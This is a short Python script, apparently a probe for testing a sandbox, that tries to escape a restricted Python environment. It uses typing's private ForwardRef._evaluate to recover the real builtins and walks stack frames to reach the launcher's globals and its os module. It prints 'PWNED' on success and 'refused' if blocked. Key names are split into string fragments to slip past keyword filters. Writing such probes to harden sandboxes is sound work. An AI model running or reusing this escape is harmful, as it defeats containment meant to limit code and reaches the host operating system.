# frame: inspect.stack() lists every frame's FrameInfo
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import dataclasses
ins = ga(dataclasses, "insp" + "ect")
try:
    for fi in ins.stack(0):
        fg = ga(fi.frame, "f_glob" + "als")
        if "install_policy" in fg:
            print(M, "launcher frame via inspect.stack", fg["o" + "s"].getpid())
            break
except Exception as e:
    print("refused:", type(e).__name__, e)
